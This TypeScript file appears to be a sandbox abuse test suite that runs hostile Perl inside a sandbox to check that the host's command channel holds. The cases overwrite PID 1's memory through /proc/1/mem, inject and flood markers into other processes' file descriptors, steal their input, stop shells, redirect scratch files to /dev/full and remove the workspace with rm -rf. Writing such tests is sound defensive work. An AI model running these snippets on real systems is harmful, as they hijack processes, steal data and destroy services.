import { run, text } from '../../../src/conformance/kit.ts';
import { type AbuseGroup, broken, held, type Verdict } from '../abuse-case.ts';
import type { Stage } from '../stage.ts';

/** Perl: every other process, among them the shells that run commands for the host. */
const others = "my @shells = grep { $_ != $$ } map { m{(\\d+)} } glob '/proc/[0-9]*';";

/** Perl: puts another command where the first process keeps what it does for a new shell. */
const takeOver = `
  my ($does, $evil) = ('setsid sh ', 'head -c600000000 /dev/zero #');
  open(my $memory, '+<', '/proc/1/mem') or do { print "$!\n"; exit };
  open(my $maps, '<', '/proc/1/maps') or die;
  while (<$maps>) {
    my ($from, $to) = /^([0-9a-f]+)-([0-9a-f]+) rw/ or next;
    ($from, $to) = (hex $from, hex $to);
    sysseek $memory, $from, 0;
    sysread $memory, my $bytes, $to - $from;
    for (my $at = -1; ($at = index $bytes, $does, $at + 1) >= 0; ) {
      sysseek $memory, $from + $at, 0;
      syswrite $memory, $evil and print "taken over\n";
    }
  }`;

/** Attacks a sandbox in whose shells the host speaks, while another command runs. */
async function disturb({ sandbox }: Stage, perl: string, timeoutMs = 2000): Promise<Verdict> {
  const attacker = sandbox.exec({
    argv: ['perl', '-e', `$| = 1; ${others} ${perl}`],
    timeoutMs,
  });
  const neighbour = sandbox.exec({
    argv: ['sh', '-c', 'echo own; sleep 0.5; echo own'],
    timeoutMs: 2000,
  });
  for (const { result } of [attacker, neighbour]) {
    const { stdout, stderr } = await result;
    const bytes = stdout.length + stderr.length;
    if (bytes > sandbox.limits.outputBytes) return broken('more output than allowed');
  }
  return held('every command ends');
}

/** The shells inside through which the host gives its commands belong to the same user. */
export const channel: AbuseGroup = {
  title: 'The channel to the host',
  cases: [
    {
      name: 'forged ends',
      tries: 'writes marks of its own into the streams of other commands',
      own: {},
      mayEnd: true,
      attempt: (stage) =>
        disturb(
          stage,
          `for my $round (1..20) { for my $pid (@shells) { for my $fd (1, 2, 4, 5) {
            open(my $out, '>', "/proc/$pid/fd/$fd") or next;
            syswrite $out, "\\036" . ('0' x 32) . " E 0 0\\n\\036 E\\n\\036\\n" . ("\\036" x 2000) . "\\n";
          } } }`,
        ),
    },
    {
      name: 'a flood of marks',
      tries: 'writes a mark that never ends into the streams of other commands',
      own: {},
      mayEnd: true,
      attempt: (stage) =>
        disturb(
          stage,
          `for my $pid (@shells) { for my $fd (1, 2, 4, 5) {
            open(my $out, '>', "/proc/$pid/fd/$fd") or next;
            syswrite $out, "\\036" . ('A' x 60000) for 1..40;
          } }`,
        ),
    },
    {
      name: 'a flood of the host',
      tries: 'floods every stream that leads to the host, without a line break',
      own: {},
      mayEnd: true,
      attempt: async (stage) => {
        const before = process.memoryUsage().rss;
        const verdict = await disturb(
          stage,
          `my $block = 'A' x 1_048_576;
          for my $pid (@shells) { for my $fd (1, 2, 4, 5) {
            fork and next;
            open(my $out, '>', "/proc/$pid/fd/$fd") or exit;
            -p $out or exit;
            syswrite $out, $block for 1..($pid == 1 ? 512 : 64);
            exit;
          } }
          1 while wait > 0;`,
          60_000,
        );
        const grown = Math.round((process.memoryUsage().rss - before) / 1024 / 1024);
        return grown < 256 ? verdict : broken(`the host's process grew by ${grown} MB`);
      },
    },
    {
      name: 'the first process taken over',
      tries: 'writes into its memory, so that it floods the host in place of answering',
      own: {},
      mayEnd: true,
      attempt: async ({ sandbox }) => {
        const before = process.memoryUsage().rss;
        const { out } = await run(sandbox, ['perl', '-e', takeOver]);
        // Those that need a new shell have the first process act.
        const more = Array.from({ length: 6 }, () =>
          sandbox.exec({ argv: ['sleep', '1'], timeoutMs: 3000 }),
        );
        await Promise.all(more.map(({ result }) => result));
        const grown = Math.round((process.memoryUsage().rss - before) / 1024 / 1024);
        if (grown >= 256) return broken(`the host's process grew by ${grown} MB`);
        return held(
          out.includes('taken over') ? 'what it says is bounded' : out.trim().toLowerCase(),
        );
      },
    },
    {
      name: 'stolen input',
      tries: 'reads what the host says to other shells',
      own: {},
      mayEnd: true,
      attempt: (stage) =>
        disturb(
          stage,
          `my @in; for my $pid (@shells) { for my $fd (0, 3) {
            open(my $in, '<', "/proc/$pid/fd/$fd") or next; push @in, $in;
          } }
          for my $in (@in) { fork and next; sysread $in, my $stolen, 65536 while 1 }
          sleep 600;`,
        ),
    },
    {
      name: 'stopped shells',
      tries: 'stops every shell of the host’s, so that none of them answers',
      own: {},
      mayEnd: true,
      attempt: (stage) =>
        disturb(stage, `kill STOP => $_ for grep { $_ != 1 } @shells; sleep 600;`),
    },
    {
      name: 'scratch files of the channel',
      tries: 'puts links in the place of its files and takes all rights from /tmp and /dev/shm',
      own: {},
      mayEnd: true,
      attempt: (stage) =>
        disturb(
          stage,
          `for my $file (glob('/tmp/forge* /tmp/.forge* /dev/shm/forge*')) {
            unlink $file; symlink '/dev/full', $file;
          }
          chmod 0, '/tmp', '/dev/shm';`,
        ),
    },
    {
      name: 'a workspace that is gone',
      tries: 'empties its own workspace and takes all rights from it',
      own: {},
      attempt: async ({ sandbox }) => {
        await run(sandbox, ['sh', '-c', 'mkdir a; rm -rf -- ./* 2>/dev/null; chmod 0 .']);
        const ran = await run(sandbox, { argv: ['chmod', '755', sandbox.workspace], cwd: '/' });
        const { bytes } = await sandbox.writeFile('x', 'x').then(() => sandbox.readFile('x'));
        return text(bytes) === 'x' ? held('can be mended') : broken(JSON.stringify(ran.end));
      },
    },
  ],
};
